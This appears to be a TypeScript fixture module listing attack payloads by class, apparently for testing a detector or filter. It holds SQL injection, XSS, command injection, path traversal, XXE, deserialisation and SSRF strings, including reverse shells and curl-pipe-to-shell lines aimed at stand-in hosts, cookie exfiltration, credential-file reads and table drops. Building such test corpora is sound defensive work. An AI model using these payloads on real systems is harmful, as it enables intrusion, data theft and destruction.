import { java, log4j, php, template } from './code-payloads.ts';

/** Payloads of our own writing, one a line, by class. What they do is beside the point: each has the form of an attack. */

export type PayloadClass = keyof typeof payloads;

const sql = String.raw`
' or 1=1-- -
' or 'x'='x
" or "a"="a
') or ('1'='1
1 or 1=1
1) or (2=2
-7 union select null,null,null-- -
9' union all select 1,group_concat(name),3 from members-- -
0 union select table_name,2 from information_schema.tables
1' order by 8-- -
5 order by 12-- -
1' and sleep(4)-- -
1 and sleep(6)
1' and (select 7 from (select(sleep(3)))q)-- -
3;select pg_sleep(7)--
4'; waitfor delay '0:0:6'--
8; drop table invoices
2'; insert into admins(name) values('eve')--
1'; update staff set role='root' where id=3--
6'; delete from audit where 1=1--
1'; exec master..xp_cmdshell 'dir'--
1 and extractvalue(1,concat(0x7e,version()))
1' and updatexml(1,concat(0x7e,user()),1)-- -
1' and 1=convert(int,@@version)--
1' and 1=cast((select version()) as int)--
1' || (select banner from v$version where rownum=1) || '
'||utl_inaddr.get_host_address('h.example')||'
1' and ascii(substr((select database()),1,1))>77-- -
1 and ord(mid(user(),1,1))=114
1' and exists(select * from members)-- -
1' rlike (select (case when (3=3) then 1 else 0x28 end))-- -
1' having 3=3--
1' group by members.id having 4=4--
eve'--
eve' #
eve'/*
1' and '5'>'4
1' xor 6=6-- -
1' && 9=9-- -
1' || '1'='1
x' or name like '%a%
x' or id is not null or 'a'='b
1' or 3 between 1 and 5-- -
1' or 2 in (1,2,3)-- -
1' and benchmark(9000000,md5('k'))-- -
1' and load_file('/etc/hostname')-- -
1' union select '<?php echo 1;?>' into outfile '/var/www/k.php'-- -
1' procedure analyse(extractvalue(1,concat(0x3a,user())),1)-- -
(select * from (select(sleep(8)))z)
1' or not 4=5-- -
1'/**/or/**/8=8/**/-- -
1'/*!50000union*//*!50000select*/1,2,3-- -
1 union select 1,sqlite_version()
1' union select sql,2 from sqlite_master-- 
1' and randomblob(900000000)-- 
1' and 1=dbms_pipe.receive_message('q',9)--
1' and ctxsys.drithsx.sn(1,user)=1--
1;declare @q varchar(99);set @q='dir';exec(@q)--
1' and 6=(select count(*) from pg_catalog.pg_user)--
1' union select usename,passwd from pg_shadow--
1' or true-- -
" or true#
') or true--
1' or 1 limit 1-- -
1'-(select 3 where 3=3)-'
1'+(select top 1 name from sysobjects)+'
1 or (select count(*) from members)>0
1 and if(1=1,sleep(2),0)
1 and (case when 5=5 then 1 else 0 end)=1
1' and substring(@@version,1,1)='8
1' and length(database())=6-- -
1,(select 5 from pg_sleep(4))
1' union distinct select 4,5,6#
1') union select 1,2,3 from dual--
' union select null,username||'~'||secret from members--
999 or 1=1 limit 1 offset 2#
1' into dumpfile '/tmp/q'-- -
1';copy members to program 'sh'--
1' and gtid_subset(concat(0x7e,(select 5)),1)-- -
if(now()=sysdate(),sleep(5),0)
1' and json_keys((select convert((select user()) using utf8)))-- -
`;

const html = String.raw`
<script>alert(7)</script>
<ScRiPt src=//e.example/k.js></sCrIpT>
"><script>prompt(3)</script>
'><img src=q onerror=alert(4)>
<img/src="q"/onerror=confirm(2)>
<svg onload=alert(5)>
<svg/onload=alert&lpar;6&rpar;>
<body onpageshow=alert(1)>
<details open ontoggle=alert(8)>
<video><source onerror=alert(3)></video>
<audio src=q onerror=prompt(9)>
<input autofocus onfocus=alert(2)>
<select autofocus onfocus=alert(1)>
<marquee onstart=alert(4)>go</marquee>
<a href=javascript:alert(5)>go</a>
<a href="java&#x73;cript:alert(6)">go</a>
<a href="jav	ascript:alert(6)">go</a>
<iframe src=javascript:alert(7)></iframe>
<iframe srcdoc="<b onclick=alert(1)>x</b>"></iframe>
<object data=javascript:alert(8)>
<embed src=data:text/html;base64,PHNjcmlwdD4=>
<form action=javascript:alert(9)><input type=submit></form>
<button formaction=javascript:alert(1)>go</button>
<math><maction xlink:href="javascript:alert(2)">x</maction></math>
<base href=//e.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(3)">
<link rel=import href=//e.example/k>
<style>@import '//e.example/k.css';</style><img src=q onerror=alert(1)>
<div style="width:expression(alert(4))">
<x onclick=alert(5)>press
<custom-tag onpointerover=alert(6)>over
" onmouseover=alert(7) y="
' onfocus=alert(8) autofocus='
" autofocus onfocus="alert(9)
javascript:alert(1)
JaVaScRiPt:prompt(document.domain)
data:text/html,<script>alert(2)</script>
vbscript:msgbox(1)
</textarea><script>confirm(3)</script>
</title><svg onload=alert(4)>
--><img src=q onerror=alert(5)>
<svg><animate onbegin=alert(6) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(7)>
<svg><use href="data:image/svg+xml,<svg id='x'><a href='javascript:alert(8)'/></svg>#x">
<img src="q" onerror="fetch('//e.example/?'+document.cookie)">
<p onwheel=alert(9)>turn
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(2) type=image>
<noscript><p title="</noscript><img src=q onerror=alert(3)>">
<xss style=animation-name:k onanimationstart=alert(4)>
`;

const js = String.raw`
';alert(1)//
";alert(2);//
'-alert(3)-'
"+prompt(4)+"
');alert(5);//
window['al'+'ert'](6)
self["\x61lert"](7)
top[/al/.source+/ert/.source](8)
globalThis['ev'+'al']('1')
[]['constructor']['constructor']('alert(1)')()
constructor.constructor('alert(2)')()
(function(){}).constructor('alert(3)')()
(![]+[])[+[]]+(![]+[])[+!+[]]+([![]]+[][[]])[+!+[]+[+[]]]
alert${'`'}1${'`'}
';document.location='//e.example/?'+document.cookie//
eval(atob('YWxlcnQoMSk='))
eval(String.fromCharCode(97,108,101,114,116))
x=alert;x(4)
[5].map(alert)
onerror=alert;throw 6
setTimeout('ale'+'rt(7)')
Function('alert(8)')()
\u0061lert(9)
'};alert(1);{'
"-confirm(2)-"
__proto__[admin]=1
constructor.prototype.isAdmin=true
frames['aler'+'t'](1)
parent["ale"+"rt"]("x")
import('//e.example/k.js');alert(1)
`;

const shell = String.raw`
;id
|id
||whoami
&&cat /etc/passwd
;cat /etc/hosts
|cat /etc/passwd
127.0.0.1;ls -la
127.0.0.1|uname -a
127.0.0.1&&whoami
8.8.8.8;ping -c 4 e.example
$(whoami)
$(cat /etc/passwd)
${'`'}id${'`'}
${'`'}curl e.example${'`'}
;curl http://e.example/k.sh|sh
;wget http://e.example/k -O /tmp/k
|nc e.example 4444 -e /bin/sh
;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
;python -c 'import os;os.system("id")'
;perl -e 'print 1'
x;cat$IFS/etc/passwd
x;cat$${'{IFS}'}/etc/passwd
;{cat,/etc/passwd}
;c'a't /etc/passwd
;c""at /etc/passwd
;w\ho\am\i
;/bin/cat /etc/passwd
;/???/??t /etc/passwd
;cat /e?c/p?sswd
() { :;}; /bin/id
|powershell -enc SQBFAFgA
&dir c:\
|type c:\windows\win.ini
&ipconfig /all
;sleep 9
|sleep 7|
&&sleep 5
;nslookup k.e.example
;echo k>/tmp/k
;rm -rf /tmp/k
cat /etc/passwd
wget http://e.example/k
curl http://e.example/k
ping -c 3 203.0.113.9
;chmod +x /tmp/k;/tmp/k
;php -r 'phpinfo();'
|tail /var/log/syslog
;find / -name shadow
;env
;ps aux
;netstat -an
|base64 /etc/passwd
%0acat /etc/passwd
;tac /etc/passwd
`;

const path = String.raw`
../../../../etc/passwd
../../../etc/shadow
/etc/passwd
..\..\..\..\windows\win.ini
....//....//....//etc/passwd
..././..././..././etc/passwd
/var/www/../../etc/passwd
file:///etc/hosts
php://filter/convert.base64-encode/resource=index
php://input
expect://id
phar://./up.jpg/x
zip://up.zip%23k.php
data://text/plain;base64,PD9waHA=
/proc/self/environ
/proc/self/cmdline
c:\windows\win.ini
c:/boot.ini
../../WEB-INF/web.xml
..;/..;/manager/html
../../../../.ssh/id_rsa
/root/.bash_history
../../../../var/log/apache2/access.log
../../../../../../../../windows/system32/drivers/etc/hosts
static/../../../../etc/group
..%2f..%2f..%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/etc/passwd
/./././etc/./passwd
//etc//passwd
jar:file:/tmp/a.jar!/x
images/../../../../../proc/version
../../../../../inetpub/logs
../../../app/.aws/credentials
`;

const xxe = String.raw`
<!DOCTYPE r [<!ENTITY k SYSTEM "file:///etc/passwd">]><r>&k;</r>
<!DOCTYPE r [<!ENTITY % k SYSTEM "http://e.example/k.dtd"> %k;]><r/>
<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://e.example/k.dtd"><r/>
<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>
<!DOCTYPE r [<!ENTITY a "1"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>
<!DOCTYPE r [<!ENTITY k PUBLIC "x" "http://e.example/">]><r>&k;</r>
`;

const nosql = String.raw`
{"$ne":null}
{"$gt":""}
{"$where":"sleep(3000)"}
{"$regex":"^a"}
' || this.password.match(/.*/)//
'; return true; var k='
' || 'a'=='a
{"$nin":["x"]}
`;

const ldap = String.raw`
*)(uid=*
*)(|(uid=*
admin)(&)
x)(|(cn=*))
*)(objectClass=*
*))(|(mail=*
(&(uid=a)(userPassword=*))
`;

const deserialisation = String.raw`
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA==
O:4:"User":2:{s:4:"name";s:1:"k";s:5:"admin";b:1;}
a:1:{i:0;O:9:"FileStore":1:{s:4:"path";s:5:"k.php";}}
!!python/object/apply:os.system ["id"]
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e.example/"]]]]
{"k":"_$$ND_FUNC$$_function(){return 1}()"}
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e.example/k"}
AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQ=
<java version="1" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>
`;

const ssrf = String.raw`
http://169.254.169.254/latest/meta-data/
http://metadata.google.internal/computeMetadata/v1/
http://100.100.100.200/latest/meta-data/
gopher://127.0.0.1:6379/_INFO
dict://127.0.0.1:11211/stat
http://[::1]:8080/admin
http://0x7f000001/
http://2130706433/
http://0.0.0.0:22/
http://k.e@169.254.169.254/
http://[::ffff:169.254.169.254]/
http://k.oastify.com/x
`;

const ofLines = (text: string) => text.split('\n').filter((line) => line !== '');

export const payloads = {
  sql: ofLines(sql),
  html: ofLines(html),
  js: ofLines(js),
  shell: [...ofLines(shell), 'a\ncat /etc/passwd', 'a\r\nid'],
  path: ofLines(path),
  php: ofLines(php),
  template: ofLines(template),
  java: ofLines(java),
  log4j: ofLines(log4j),
  xxe: ofLines(xxe),
  nosql: ofLines(nosql),
  ldap: ofLines(ldap),
  deserialisation: ofLines(deserialisation),
  ssrf: ofLines(ssrf),
  protocol: [
    'x\r\nSet-Cookie: k=1',
    'x\r\n\r\nHTTP/1.1 200 OK',
    'x\r\nLocation: http://e.example/',
    'x\nContent-Length: 0',
    '<!--#exec cmd="id" -->',
    '<esi:include src="http://e.example/k"/>',
  ],
};

/** Names of files that servers would run. */
export const fileNames = [
  'k.php',
  'k.PhP5',
  'k.phtml',
  'k.php.jpg',
  'k.jpg.php',
  'k.php\0.png',
  'k.php;.gif',
  'k.asp;.jpg',
  'k.aspx',
  'k.jsp',
  'k.jspx',
  'k.phar',
  '../../k.png',
  '.htaccess',
  'k.ashx',
  'k.php\n.jpg',
  'k.cer',
  '.user.ini',
  'k.shtml',
  'k.php ',
];

export const agents = [
  'sqlmap/1.8',
  'Nikto/2.5',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
  'Nuclei - v3',
  'WPScan v3.8',
  'gobuster/3.6',
];
